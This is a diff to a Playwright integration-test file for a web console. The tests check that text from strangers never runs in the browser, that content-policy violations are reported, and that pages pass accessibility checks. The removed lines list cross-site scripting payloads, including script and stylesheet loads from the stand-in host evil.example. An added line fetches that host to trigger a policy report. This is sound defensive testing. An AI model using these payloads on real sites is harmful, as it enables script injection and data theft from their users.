@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import asyncio
+import re
 from collections.abc import Iterator
+from pathlib import Path
 from urllib.parse import quote
 
+import httpx2
 import pytest
 from msgspec.structs import replace
 from playwright.async_api import expect
@@ -13,31 +17,15 @@ from ops.devstack.layout import free_port
 from schemas.secret_names import API_KEY
 from schemas.settings import Settings
 from tests.integration.api_process import process
+from tests.integration.axes import NPM, axe_source, violations
+from tests.integration.axes import WHY_NOT as NO_NPM
 from tests.integration.browsers import CHROMIUM, PATIENCE_MS, WHY_NOT, browsing, sign_in
 from tests.integration.conftest import Database
 from tests.integration.consoles import store_event
+from tests.integration.furnished import PAGES, STRANGERS, furnish
+from tests.integration.vectors import VECTORS
 
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=WHY_NOT)
-
-TAGS = ("script", "img src=x", "svg", "body", "iframe", "details open", "video src=x", "input autofocus", "a href=x")
-EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover")
-ENDS = ("", '">', "'>", "</pre>", "</title>")
-VECTORS = (
-    *(f"{end}<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS for end in ENDS),
-    "<script>alert(1)</script>",
-    "</script><script src=//evil.example/x.js></script>",
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    "<a href=javascript:alert(1)>x</a>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import '//evil.example/x.css'</style>",
-    "<form action=//evil.example><button>x",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<object data=//evil.example/x>",
-    "\x1b]8;;//evil.example\x07x",
-    "\u202e\u2066<script>alert(1)</script>",
-    "x" * 65536,
-)  # fmt: skip
 
 
 @pytest.fixture
@@ -94,7 +82,12 @@ async def test_the_way_of_an_operator(database: Database, origin: str, key: str)
         await page.locator("tbody a").first.click()
         await expect(page.get_by_role("heading", level=1)).to_contain_text("mutt.ingest.syslog:0:1")
         await page.goto("/ui/rules/new")
+        await page.get_by_label("Match", exact=True).select_option("regex")
+        await page.get_by_label("Pattern").fill("link[z-a]")
+        await expect(page.locator("#fault-match_string")).to_contain_text("Range out of order", timeout=PATIENCE_MS)
+        await expect(page.locator("#mark-match_string")).to_have_text("link[z-a]\n       ^")
         await page.get_by_label("Pattern").fill("link down")
+        await expect(page.locator("#fault-match_string")).to_be_empty(timeout=PATIENCE_MS)
         await page.get_by_role("button", name="Try it").click()
         await expect(page.get_by_text("of the 1 events audited last")).to_be_visible()
         await page.get_by_label("Why it is changed").fill("seen in the browser")
@@ -107,30 +100,78 @@ async def test_the_way_of_an_operator(database: Database, origin: str, key: str)
         assert watch.unexpected() == []
 
 
+LISTS = {"/ui/events": len(VECTORS), "/ui/dead-letters": -(-len(VECTORS) // 2), "/ui/rules": -(-len(VECTORS) // 3)}
+"""Lists, and how many rows the vectors are."""
+REFUSED = ("status of 404", "status of 422")
+"""What a browser says of two of the pages, and is right."""
+
+
+@pytest.mark.timeout(900)
 async def test_what_strangers_write_runs_nowhere(database: Database, origin: str, key: str) -> None:
-    for offset, vector in enumerate(VECTORS):
-        await store_event(database, offset, message=vector, hostname=vector[:255])
+    assert len(VECTORS) > 300
+    await furnish(database, VECTORS)
     async with browsing(origin) as (page, watch):
         await sign_in(page, key, "/ui/events")
-        seen = 0
-        while True:
-            seen += await page.locator("tbody tr").count()
-            following = page.get_by_role("link", name="Next page")
-            if not await following.count():
-                break
-            await following.click()
-        assert seen == len(VECTORS)
-        for offset in range(0, len(VECTORS), 90):
-            await page.goto(f"/ui/events/mutt.ingest.syslog:0:{offset}")
-        for vector in VECTORS[1:4]:
-            await page.goto(f"/ui/events?hostname={quote(vector[:255])}")
+        for path, rows in LISTS.items():
+            await page.goto(path)
+            seen = 0
+            while True:
+                seen += await page.locator("tbody tr").count()
+                following = page.get_by_role("link", name="Next page")
+                if not await following.count():
+                    break
+                await following.click()
+            assert seen >= rows, path
+        for path in (*STRANGERS, *(f"/ui/events?hostname={quote(vector[:255])}" for vector in VECTORS[1:4])):
+            await page.goto(path)
         assert watch.unexpected() == []
-        # Or that would mean nothing: a page that is none of ours does all of it, and is noticed.
+        assert await reports(origin) == 0
+        # Or that would mean nothing: what breaks the policy is told, and a page that is none of ours is noticed.
+        await page.evaluate("fetch('//evil.example/').catch(() => null)")
+        await until_told(origin)
         await page.goto("about:blank")
         await page.set_content("<img src=http://127.0.0.1:1/x><script>alert(1)</script>")
         told = " ".join(watch.unexpected())
         assert "dialog: 1" in told
         assert "asked elsewhere: http://127.0.0.1:1/x" in told
+
+
+@pytest.mark.timeout(900)
+@pytest.mark.skipif(NPM is None, reason=NO_NPM)
+async def test_every_page_can_be_used_by_all_in_both_themes(
+    database: Database, origin: str, key: str, tmp_path: Path
+) -> None:
+    """Colours alone differ between themes, so that the other one is asked about them alone."""
+    await furnish(database)
+    source = await asyncio.to_thread(axe_source, tmp_path)
+    found: dict[str, list[str]] = {}
+    async with browsing(origin, bypass_csp=True) as (page, watch):
+        watch.expected = REFUSED
+        await page.add_init_script(source)
+        await page.goto("/ui/sign-in")
+        found["/ui/sign-in"] = await violations(page)
+        await sign_in(page, key)
+        for path in PAGES:
+            await page.goto(path)
+            await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
+            found[path] = await violations(page)
+            await page.emulate_media(color_scheme="dark")
+            found[path + " dark"] = await violations(page, "color-contrast")
+            await page.emulate_media(color_scheme="light")
+        assert {path: wrong for path, wrong in found.items() if wrong} == {}
+        assert watch.unexpected() == []
+
+
+async def reports(origin: str) -> float:
+    async with httpx2.AsyncClient(base_url=origin, timeout=30) as client:
+        text = (await client.get("/metrics")).text
+    return float(re.findall(r"^mutt_console_policy_reports_total (\S+)", text, re.MULTILINE)[0])
+
+
+async def until_told(origin: str) -> None:
+    async with asyncio.timeout(PATIENCE_MS / 1000):
+        while not await reports(origin):
+            await asyncio.sleep(0.05)
 
 
 async def test_pages_are_whole_without_scripts_and_on_a_narrow_screen(
